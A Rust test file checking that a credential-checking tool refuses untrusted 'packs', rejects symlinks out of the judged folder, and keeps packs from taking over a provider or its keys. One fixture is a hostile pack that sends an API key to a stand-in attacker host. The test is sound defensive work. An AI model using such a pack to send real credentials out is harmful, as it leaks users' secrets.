//! What a pack of the judged folder may do.

use super::acme::{EVIL, acme, acme_files, listener, run};
use super::scene::Scene;

#[test]
fn a_pack_in_the_folder_is_not_asked_unless_trusted() {
    let scene = Scene::new(&[]);
    acme_files(&scene, "https://api.acme.co");
    acme(&scene, "project/checks");
    let server = listener();
    let hosts = ["api.acme.co", "live.acme.co", "api.begini.co"];
    let alone = run(&scene, &server, &hosts, &[]);
    assert!(!alone.output.contains("acme/answers\""), "{}", alone.output);
    let named = run(&scene, &server, &hosts, &["--packs", "project/checks"]);
    assert!(
        named.result("acme/answers").contains("--trust-packs"),
        "{}",
        named.result("acme/answers")
    );
    assert_eq!(server.connections(), 0);
    run(&scene, &server, &hosts, &["--packs", "project/checks", "--trust-packs"]);
    assert_eq!(server.requests().len(), 1);
}

#[cfg(unix)]
#[test]
fn a_link_does_not_make_a_pack_somebody_elses() {
    let scene = Scene::new(&[]);
    acme_files(&scene, "https://api.acme.co");
    acme(&scene, "elsewhere");
    acme(&scene, "project/checks");
    std::os::unix::fs::symlink(scene.path().join("elsewhere"), scene.path().join("project/out"))
        .unwrap();
    std::os::unix::fs::symlink(scene.path().join("project/checks"), scene.path().join("into"))
        .unwrap();
    let server = listener();
    for packs in ["into", "project/checks/acme", "into/acme"] {
        let done = run(&scene, &server, &["api.acme.co"], &["--packs", packs]);
        assert!(done.result("acme/answers").contains("--trust-packs"), "{packs}");
    }
    for packs in ["project/out", "project/../project/out", "project/out/acme"] {
        let done = run(&scene, &server, &["api.acme.co"], &["--packs", packs, "--trust-packs"]);
        assert!(done.errors.contains("leads out of the judged folder"), "{}", done.errors);
    }
    assert_eq!(server.connections(), 0);
    scene.write("secret.yaml", "title: not yours\n");
    let link = scene.path().join("project/checks/acme/linked.yaml");
    std::os::unix::fs::symlink(scene.path().join("secret.yaml"), link).unwrap();
    let done = run(&scene, &server, &[], &["--packs", "project/checks"]);
    assert!(done.errors.contains("leads out of the judged folder"), "{}", done.errors);
}

#[test]
fn a_pack_in_the_folder_does_not_take_a_providers_place_or_key() {
    let server = listener();
    let hosts = [EVIL, "api.begini.co"];
    let pack = |id: &str, names: &str| {
        let scene = Scene::begini("https://hooks.lender.co.ke/begini");
        scene.write(
            &format!("project/checks/{id}/pack.yaml"),
            &format!(
                "title: X\nroles:\n  api-key: {{ kind: credential, names: [{names}] }}\n\
                 hosts: {{ sandbox: [{EVIL}], production: [{EVIL}] }}\n"
            ),
        );
        scene.write(
            &format!("project/checks/{id}/asks.yaml"),
            &format!(
                "title: It answers\nstep: build-in-sandbox\nseverity: blocker\nwho: engineer\n\
                 why: One sentence.\nfix: One sentence.\nanswers: [API-01]\nrequest:\n  \
                 environment: sandbox\n  method: GET\n  url: \"https://{EVIL}/x\"\n  \
                 headers: {{ authorization: \"{{api-key}}\" }}\noutcomes:\n  \
                 - {{ when: \"true\", result: pass }}\n"
            ),
        );
        scene
    };
    let typed =
        ["--packs", "project/checks", "--trust-packs", "--assume-sandbox", "begini/api-key"];
    let done = run(&pack("begini", "BEGINI_API_KEY"), &server, &hosts, &typed);
    assert!(done.errors.contains("takes the place of `begini`"), "{}", done.errors);
    for names in ["BEGINI_API_KEY", "SANDBOX_BEGINI_API_KEY", "API_KEY", "KEY"] {
        run(&pack("aaa", names), &server, &hosts, &typed);
    }
    let scene = pack("aaa", "SANDBOX_AWS_SECRET_KEY").with_variable("SANDBOX_AWS_SECRET_KEY", "x");
    run(&scene, &server, &hosts, &typed);
    let requests = server.requests();
    assert!(requests.iter().all(|one| !one.contains(EVIL)), "{requests:?}");
    // its own it may send to its own
    let scene = pack("aaa", "AAA_API_KEY");
    let text = scene.read("project/.env.sandbox");
    scene.write("project/.env.sandbox", &format!("{text}AAA_API_KEY=own-k3y-998877\n"));
    run(&scene, &server, &hosts, &typed);
    let own = |one: &&String| one.contains("own-k3y-998877") && one.contains(EVIL);
    assert_eq!(server.requests().iter().filter(own).count(), 1);
}
